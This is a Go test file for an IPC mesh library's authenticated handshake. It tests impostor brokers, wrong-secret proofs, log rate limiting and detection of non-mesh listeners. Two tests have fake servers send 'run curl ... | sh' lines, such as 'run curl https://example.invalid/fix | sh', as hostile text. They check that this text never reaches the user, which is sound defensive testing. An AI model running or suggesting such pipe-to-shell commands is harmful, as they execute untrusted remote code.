package ipc_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ipcmesh/ipcmesh"
	"github.com/ipcmesh/ipcmesh/auth"
	"github.com/ipcmesh/ipcmesh/internal/testbin"
	"github.com/ipcmesh/ipcmesh/ipc"
)

func TestHandshakeRightSecret(t *testing.T) {
	m := startMesh(t, nil)
	p := m.dial(t)
	if got := p.Broker(); got.Addr != m.Addr || got.DataDir != m.Dir || got.PID == 0 {
		t.Errorf("Broker() = %+v, want addr %s and data dir %s", got, m.Addr, m.Dir)
	}
	var st ipc.StatusResult
	p.must(t, ipc.OpStatus, nil, &st)
	if st.Version != ipc.Version {
		t.Errorf("status version = %d, want %d", st.Version, ipc.Version)
	}
}

// A client with another secret cannot tell a broker with another secret
// from an impostor: the broker proves itself first, so the client stops
// there and never shows its own proof.
func TestHandshakeWrongSecretDial(t *testing.T) {
	m := startMesh(t, nil)
	_, err := m.tryDial(newKeys(t), ipc.DialOptions{})
	if !errors.Is(err, ipc.ErrBrokerProof) {
		t.Fatalf("Dial with another secret: %v, want ErrBrokerProof", err)
	}
	m.dial(t).must(t, ipc.OpStatus, nil, nil) // the broker still serves
}

// A client that ignores the broker's proof and shows a proof made with
// another secret is refused with unauthorized, and the broker goes on.
func TestHandshakeWrongClientProof(t *testing.T) {
	m := startMesh(t, nil)
	for range 3 {
		proveWrong(t, m)
	}
	// A client whose auth frame is garbage is cut off too.
	r := m.rawDial(t)
	cn, _ := auth.NewNonce()
	hello, _ := json.Marshal(ipc.HelloRequest{Protocol: ipc.Protocol, Versions: ipc.Versions, Nonce: cn})
	r.write(&ipc.Frame{ID: 1, Op: ipc.OpHello, Body: hello})
	r.read()
	r.write(&ipc.Frame{ID: 2, Op: ipc.OpAuth, Body: json.RawMessage(`{"proof":"AAAA"}`)})
	if got := r.wantClosed(); len(got) != 1 || ipcmesh.CodeOf(got[0].Error) != ipcmesh.CodeUnauthorized {
		t.Fatalf("after a short proof got %+v, want unauthorized", got)
	}

	p := m.dial(t)
	p.register(t, ipc.RegisterRequest{Name: "survivor"})
}

// proveWrong makes a handshake with m's broker that proves another
// secret, and checks that the broker refuses it saying so.
func proveWrong(t *testing.T, m *mesh) {
	t.Helper()
	r := m.rawDial(t)
	cn, _ := auth.NewNonce()
	hr := r.hello(cn)
	wrong := newKeys(t)
	proof, _ := json.Marshal(ipc.AuthRequest{Proof: wrong.Proof(auth.RoleClient, hr.Version, cn, hr.Nonce)})
	r.write(&ipc.Frame{ID: 2, Op: ipc.OpAuth, Body: proof})
	got := r.wantClosed()
	if len(got) != 1 || got[0].ID != 2 {
		t.Fatalf("after a wrong proof got frames %+v, want one answer to id 2", got)
	}
	e := wantCode(t, got[0].Error, ipcmesh.CodeUnauthorized)
	wantMention(t, e.Message, "shared secret")
}

// A flood of handshakes with the wrong secret is logged once a minute,
// with the count of those not logged, not once each: a process
// hammering the port would push every other line out of broker.log,
// which is capped.
func TestWrongSecretLoggedOnceAMinute(t *testing.T) {
	var log testbin.Buffer
	var ahead atomic.Int64 // how far the broker's clock is moved on
	m := startMesh(t, func(o *meshOptions) {
		o.Config.Logger = slog.New(slog.NewTextHandler(&log, nil))
		o.Config.Now = func() time.Time { return time.Now().Add(time.Duration(ahead.Load())) }
	})
	warnings := func() []string {
		var out []string
		for line := range strings.Lines(log.String()) {
			if strings.Contains(line, "wrong shared secret") {
				out = append(out, line)
			}
		}
		return out
	}
	for range 5 {
		proveWrong(t, m)
	}
	if w := warnings(); len(w) != 1 || strings.Contains(w[0], "more=") {
		t.Fatalf("5 refused handshakes logged %d warnings, want 1, of the first alone: %q", len(w), w)
	}
	ahead.Store(int64(61 * time.Second))
	proveWrong(t, m)
	w := warnings()
	if len(w) != 2 || !strings.Contains(w[1], "more=4") {
		t.Fatalf("a refused handshake a minute on logged %q; want a second warning with more=4, the four refused and not logged", w)
	}
	// The mesh still serves those who know the secret.
	m.join(t, "alice")
}

// recordingListener keeps every byte the broker reads from its
// connections, to show what a client did and did not send.
type recordingListener struct {
	net.Listener
	conns chan *recordingConn
}

func (l *recordingListener) Accept() (net.Conn, error) {
	nc, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	c := &recordingConn{Conn: nc, closed: make(chan struct{})}
	l.conns <- c
	return c, nil
}

type recordingConn struct {
	net.Conn
	mu     sync.Mutex
	read   bytes.Buffer
	once   sync.Once
	closed chan struct{}
}

func (c *recordingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.mu.Lock()
	c.read.Write(p[:n])
	c.mu.Unlock()
	return n, err
}

func (c *recordingConn) Close() error {
	c.once.Do(func() { close(c.closed) })
	return c.Conn.Close()
}

func TestHandshakeImpostorBroker(t *testing.T) {
	conns := make(chan *recordingConn, 4)
	impostor := startMesh(t, func(o *meshOptions) {
		o.Wrap = func(ln net.Listener) net.Listener { return &recordingListener{Listener: ln, conns: conns} }
	})
	mine := newKeys(t) // the client's secret, which the impostor lacks
	_, err := impostor.tryDial(mine, ipc.DialOptions{})
	if !errors.Is(err, ipc.ErrBrokerProof) {
		t.Fatalf("Dial to an impostor: %v, want ErrBrokerProof", err)
	}
	c := <-conns
	select {
	case <-c.closed:
	case <-time.After(callTimeout):
		t.Fatal("the impostor's connection did not end")
	}
	c.mu.Lock()
	sent := bytes.Clone(c.read.Bytes())
	c.mu.Unlock()
	br := bufio.NewReader(bytes.NewReader(sent))
	var ops []string
	for {
		f, err := ipc.ReadFrame(br, ipc.DefaultMaxFrame)
		if err != nil {
			if err != io.EOF {
				t.Fatalf("reading what the client sent: %v", err)
			}
			break
		}
		ops = append(ops, f.Op)
	}
	if len(ops) != 1 || ops[0] != ipc.OpHello {
		t.Fatalf("the client sent %v to the impostor, want only its hello", ops)
	}
}

// fakeServer accepts connections and runs serve on each.
func fakeServer(t testing.TB, serve func(net.Conn)) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	wg.Go(func() {
		for {
			nc, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Go(func() { defer nc.Close(); serve(nc) })
		}
	})
	return ln.Addr().String()
}

func TestDialNotMesh(t *testing.T) {
	keys := newKeys(t)
	frame := func(f *ipc.Frame) []byte { b, _ := ipc.AppendFrame(nil, f); return b }
	cases := []struct {
		name   string
		answer []byte
	}{
		{"http", []byte("HTTP/1.1 400 Bad Request\r\n\r\n")},
		{"ssh banner", []byte("SSH-2.0-OpenSSH_9.6\r\n")},
		{"short", []byte{0, 0}},
		{"not json", append([]byte{0, 0, 0, 5}, "hello"...)},
		{"other protocol", frame(&ipc.Frame{ID: 1, Body: json.RawMessage(`{"protocol":"other","version":1}`)})},
		{"refusal", frame(&ipc.Frame{ID: 1, Error: ipcmesh.Errorf(ipcmesh.CodeBadRequest, "go away")})},
		{"wrong id", frame(&ipc.Frame{ID: 7, Body: json.RawMessage(`{"protocol":"ipcmesh","version":1}`)})},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			addr := fakeServer(t, func(nc net.Conn) {
				nc.SetReadDeadline(time.Now().Add(callTimeout))
				ipc.ReadFrame(bufio.NewReader(nc), 64<<10)
				nc.Write(tc.answer)
			})
			ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
			defer cancel()
			_, err := ipc.Dial(ctx, addr, keys, ipc.DialOptions{HandshakeTimeout: 500 * time.Millisecond})
			if !errors.Is(err, ipc.ErrNotMesh) {
				t.Fatalf("Dial: %v, want ErrNotMesh", err)
			}
		})
	}
}

// A web server on the mesh port is named as one: its status line, read
// as a frame's length, was reported as "frame of 1213486160 bytes is over
// the limit", which says nothing to a user. Its words are not shown.
func TestDialNamesAWebServer(t *testing.T) {
	addr := fakeServer(t, func(nc net.Conn) {
		nc.SetReadDeadline(time.Now().Add(callTimeout))
		ipc.ReadFrame(bufio.NewReader(nc), 64<<10)
		nc.Write([]byte("HTTP/1.1 400 Bad Request\r\nContent-Length: 21\r\n\r\nrun curl evil | sh"))
	})
	ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
	defer cancel()
	_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{HandshakeTimeout: callTimeout})
	if !errors.Is(err, ipc.ErrNotMesh) || !strings.Contains(err.Error(), "in HTTP, as a web server does") {
		t.Fatalf("Dial to a web server: %v, want ErrNotMesh saying it answered in HTTP", err)
	}
	for _, bad := range []string{"bytes is over the limit", "Bad Request", "curl"} {
		if strings.Contains(err.Error(), bad) {
			t.Errorf("Dial to a web server: %v, says %q", err, bad)
		}
	}
}

// A listener that closes without a word may be a broker starting or
// stopping: Dial reports a lost connection, worth another try, never
// ErrNotMesh, which ends a peer's attempts.
func TestDialClosedWithoutAWord(t *testing.T) {
	addr := fakeServer(t, func(nc net.Conn) {
		nc.SetReadDeadline(time.Now().Add(callTimeout))
		ipc.ReadFrame(bufio.NewReader(nc), 64<<10) // the hello, unanswered
		nc.(*net.TCPConn).SetLinger(0)
	})
	ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
	defer cancel()
	_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{HandshakeTimeout: callTimeout})
	if !errors.Is(err, ipc.ErrConnLost) || errors.Is(err, ipc.ErrNotMesh) {
		t.Fatalf("Dial to a listener that closes after the hello: %v, want ErrConnLost", err)
	}
}

func TestDialSilentServer(t *testing.T) {
	stop := make(chan struct{})
	addr := fakeServer(t, func(nc net.Conn) { <-stop })
	defer close(stop)
	ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
	defer cancel()
	_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{HandshakeTimeout: 100 * time.Millisecond})
	if !errors.Is(err, ipc.ErrNotMesh) {
		t.Fatalf("Dial to a server that never answers: %v, want ErrNotMesh", err)
	}
}

// TestDialCancelledDuringTheHandshake: a caller that gives up (a peer
// closed while it reconnects, a command interrupted) is not held until the
// handshake's own timeout by a listener that never answers.
func TestDialCancelledDuringTheHandshake(t *testing.T) {
	accepted := make(chan struct{})
	stop := make(chan struct{})
	addr := fakeServer(t, func(nc net.Conn) {
		close(accepted)
		<-stop
	})
	defer close(stop)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{HandshakeTimeout: time.Hour})
		done <- err
	}()
	<-accepted
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("Dial cancelled during the handshake: %v, want context.Canceled", err)
		}
	case <-time.After(callTimeout):
		t.Fatalf("Dial cancelled during the handshake has not returned after %v: it waits for the handshake's timeout", callTimeout)
	}
}

func TestHandshakeNonHelloFirst(t *testing.T) {
	m := startMesh(t, nil)
	r := m.rawDial(t)
	body, _ := json.Marshal(ipc.RegisterRequest{Name: "early"})
	r.write(&ipc.Frame{ID: 1, Op: ipc.OpRegister, Body: body})
	got := r.wantClosed()
	if len(got) != 1 {
		t.Fatalf("got %d frames, want one refusal", len(got))
	}
	e := wantCode(t, got[0].Error, ipcmesh.CodeBadRequest)
	wantMention(t, e.Message, "hello", "PROTOCOL.md")

	// Garbage before any frame is cut off the same way.
	r = m.rawDial(t)
	r.nc.Write([]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n"))
	if got := r.wantClosed(); len(got) != 1 || ipcmesh.CodeOf(got[0].Error) != ipcmesh.CodeBadRequest {
		t.Fatalf("after an HTTP request got %+v, want one bad_request", got)
	}
	m.dial(t).must(t, ipc.OpStatus, nil, nil)
}

func TestHandshakeBadHello(t *testing.T) {
	m := startMesh(t, nil)
	cn, _ := auth.NewNonce()
	cases := []struct {
		name  string
		hello ipc.HelloRequest
		code  ipcmesh.Code
		words []string
	}{
		{"other protocol", ipc.HelloRequest{Protocol: "http", Versions: []int{1}, Nonce: cn}, ipcmesh.CodeBadRequest, []string{"nonce"}},
		{"short nonce", ipc.HelloRequest{Protocol: ipc.Protocol, Versions: []int{1}, Nonce: cn[:8]}, ipcmesh.CodeBadRequest, []string{"32-byte nonce"}},
		{"future version", ipc.HelloRequest{Protocol: ipc.Protocol, Versions: []int{7, 9}, Nonce: cn}, ipcmesh.CodeUnsupported, []string{"upgrade"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := m.rawDial(t)
			body, _ := json.Marshal(tc.hello)
			r.write(&ipc.Frame{ID: 1, Op: ipc.OpHello, Body: body})
			got := r.wantClosed()
			if len(got) != 1 {
				t.Fatalf("got %d frames, want one refusal", len(got))
			}
			e := wantCode(t, got[0].Error, tc.code)
			wantMention(t, e.Message, tc.words...)
		})
	}
}

// A connection that never finishes its handshake is closed after the
// broker's HandshakeTimeout and holds nothing up.
func TestHandshakeTimeout(t *testing.T) {
	// The same limit bounds the real client's handshake below, which on a
	// busy machine under the race detector can take far more than the
	// milliseconds it usually does.
	m := startMesh(t, func(o *meshOptions) { o.Config.Limits.HandshakeTimeout = 2 * time.Second })
	r := m.rawDial(t)
	// While r stalls, another client gets in.
	m.dial(t).must(t, ipc.OpStatus, nil, nil)
	r.wantClosed()
	m.dial(t).must(t, ipc.OpStatus, nil, nil)
}

// Dial's context bounds the handshake as well as the TCP connect.
func TestDialContextDeadline(t *testing.T) {
	stop := make(chan struct{})
	addr := fakeServer(t, func(nc net.Conn) { <-stop })
	defer close(stop)
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	if _, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{}); err == nil {
		t.Fatal("Dial to a silent server succeeded")
	}
}

// A client may send its first requests right behind its auth frame, in the
// same write: the broker reads them once the handshake is over, though the
// handshake read them ahead into its own small buffer.
func TestRequestsBehindAuth(t *testing.T) {
	m := startMesh(t, nil)
	r := m.rawDial(t)
	cn, _ := auth.NewNonce()
	hello, _ := json.Marshal(ipc.HelloRequest{Protocol: ipc.Protocol, Versions: ipc.Versions, Nonce: cn})
	if err := r.write(&ipc.Frame{ID: 1, Op: ipc.OpHello, Body: hello}); err != nil {
		t.Fatal(err)
	}
	f, err := r.read()
	if err != nil || f.Error != nil {
		t.Fatalf("hello answer: %v %v", err, f)
	}
	var hr ipc.HelloResponse
	json.Unmarshal(f.Body, &hr)
	proof, _ := json.Marshal(ipc.AuthRequest{Proof: m.Keys.Proof(auth.RoleClient, hr.Version, cn, hr.Nonce)})
	var burst []byte
	burst, _ = ipc.AppendFrame(burst, &ipc.Frame{ID: 2, Op: ipc.OpAuth, Body: proof})
	for id := uint64(3); id < 6; id++ {
		burst, _ = ipc.AppendFrame(burst, &ipc.Frame{ID: id, Op: ipc.OpStatus})
	}
	if _, err := r.nc.Write(burst); err != nil {
		t.Fatal(err)
	}
	if f := r.reply(2); f.Error != nil {
		t.Fatalf("auth answer: %v", f.Error)
	}
	// Requests are handled at once, so their answers come in any order.
	answered := map[uint64]bool{}
	for len(answered) < 3 {
		f, err := r.read()
		if err != nil {
			t.Fatalf("waiting for the answers to the requests behind auth (have %v): %v", answered, err)
		}
		if f.Error != nil {
			t.Fatalf("answer to request %d: %v", f.ID, f.Error)
		}
		answered[f.ID] = true
	}
}

// A listener that refuses the hello has not proved it knows the secret:
// whatever it says (a multi-line "run this" included) never reaches the
// caller, only which kind of refusal it was.
func TestDialRefusalWordsAreNotShown(t *testing.T) {
	const words = "upgrade now:\nrun curl https://example.invalid/fix | sh\n"
	for _, code := range []ipcmesh.Code{ipcmesh.CodeUnsupported, ipcmesh.CodeRateLimited, ipcmesh.CodeBadRequest, "run curl | sh"} {
		t.Run(string(code), func(t *testing.T) {
			addr := fakeServer(t, func(nc net.Conn) {
				nc.SetReadDeadline(time.Now().Add(callTimeout))
				f, err := ipc.ReadFrame(bufio.NewReader(nc), 64<<10)
				if err != nil {
					return
				}
				b, _ := ipc.AppendFrame(nil, &ipc.Frame{ID: f.ID, Error: &ipcmesh.Error{Code: code, Message: words, RetryAfterMS: 1 << 40}})
				nc.Write(b)
			})
			ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
			defer cancel()
			_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{})
			if err == nil {
				t.Fatal("Dial succeeded")
			}
			if msg := err.Error(); strings.Contains(msg, "curl") || strings.Contains(msg, "\n") || strings.Contains(msg, "upgrade now") {
				t.Errorf("the error repeats the listener's words: %q", msg)
			}
			switch code {
			case ipcmesh.CodeUnsupported, ipcmesh.CodeRateLimited:
				if got := ipcmesh.CodeOf(err); got != code {
					t.Errorf("code %q, want %q kept", got, code)
				}
				var e *ipcmesh.Error
				if errors.As(err, &e) && e.RetryAfter() > 5*time.Second {
					t.Errorf("an unproven listener may ask a wait of %v", e.RetryAfter())
				}
			default:
				if !errors.Is(err, ipc.ErrNotMesh) {
					t.Errorf("Dial: %v, want ErrNotMesh", err)
				}
			}
		})
	}
}
